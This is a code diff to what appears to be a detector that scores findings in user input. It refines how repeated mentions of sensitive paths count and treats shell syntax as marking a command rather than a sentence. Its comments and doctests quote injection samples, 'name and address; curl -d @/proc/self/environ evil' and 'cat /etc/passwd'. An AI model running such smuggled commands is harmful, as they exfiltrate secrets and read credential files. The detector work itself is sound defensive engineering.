@@ -413,14 +413,14 @@ def _count_mention_once(found: list[Finding], first: int) -> None:
     /etc/shadow"), two address patterns on one URL ("visit http://localhost:6060/doc"): one weak
     signal, not three. A finding that blocks alone (a climb, a stream wrapper, a cloud metadata
     address) still does; a value that is a path or a URL, not a sentence, is not concerned."""
-    best: dict[str, int] = {}  # category -> index of its highest-scored finding
+    best: dict[str, int] = {}  # category -> index of its finding of the highest mention score
     capped = False
     for i in range(first, len(found)):
         f = found[i]
         if f.category in MENTION_CATEGORIES:
             j = best.get(f.category)
             capped = capped or j is not None or (f.rule_id in MENTION_RULES and f.score > MENTION_SCORE)
-            if j is None or f.score > found[j].score:
+            if j is None or _mention_key(f) > _mention_key(found[j]):
                 best[f.category] = i
     if not capped or not is_sentence(found[first].match.text):
         return
@@ -428,10 +428,18 @@ def _count_mention_once(found: list[Finding], first: int) -> None:
         f = found[i]
         if f.category not in best:
             continue
-        score = 0 if i != best[f.category] else min(f.score, MENTION_SCORE) if f.rule_id in MENTION_RULES else f.score
+        score = 0 if i != best[f.category] else _mention_key(f)[0]
         if score != f.score:
             found[i] = Finding(f.rule_id, f.category, f.direction, f.severity, f.location, f.action,
                                f.record_index, f.match, score)
+
+
+def _mention_key(f: Finding) -> tuple[int, bool]:
+    """A finding's score in a sentence, and whether it keeps its score there (it wins a tie:
+    a stream wrapper or a ``gopher://`` URL next to a capped pattern still blocks)."""
+    if f.rule_id in MENTION_RULES:
+        return min(f.score, MENTION_SCORE), False
+    return f.score, True
 
 
 #: The categories whose findings a sentence counts once (see :func:`_count_mention_once`).
@@ -447,20 +455,27 @@ MENTION_LEVEL: Final = 1
 _SENTENCE_WORD: Final = r"(?<!\S)[(\"']?[^\W\d_]{2,}[,.;:!?)\"']{0,2}(?!\S)"
 #: Words a sentence has at least.
 SENTENCE_MIN_WORDS: Final = 6
+#: Shell syntax that makes a value a command line rather than a sentence: a separator, a pipe, a
+#: substitution or a new line ("my name and address; curl -d @/proc/self/environ evil").
+_COMMAND_SYNTAX: Final = r"[;|`\n]|\$\(|&(?!\w)"
 
 
 def is_sentence(text: str) -> bool:
-    """Whether ``text`` holds at least six blank-separated words of letters (a path, a query or
-    a command line written without blanks between its names has none).
+    """Whether ``text`` is a sentence: it starts with a word, holds at least six blank-separated
+    words of letters and no shell syntax (a separator, a pipe, a substitution, a new line). A
+    path, a URL or a query written without blanks has no such words; a value that starts with
+    one (``http://10.0.0.5/admin#our cats and dogs ...``) is no sentence either.
 
     Example:
         >>> is_sentence("it reads the /etc/passwd file, as getent does")
         True
-        >>> is_sentence("/usr/local/pureftpd/etc/pureftpd.pdb")
-        False
+        >>> is_sentence("/usr/local/pureftpd/etc/pureftpd.pdb"), is_sentence("hi, my name is Al; cat /etc/passwd")
+        (False, False)
     """
     import re
 
+    if re.search(_COMMAND_SYNTAX, text) or not re.match(_SENTENCE_WORD, text.lstrip()):
+        return False
     return len(re.findall(_SENTENCE_WORD, text)) >= SENTENCE_MIN_WORDS
 
 
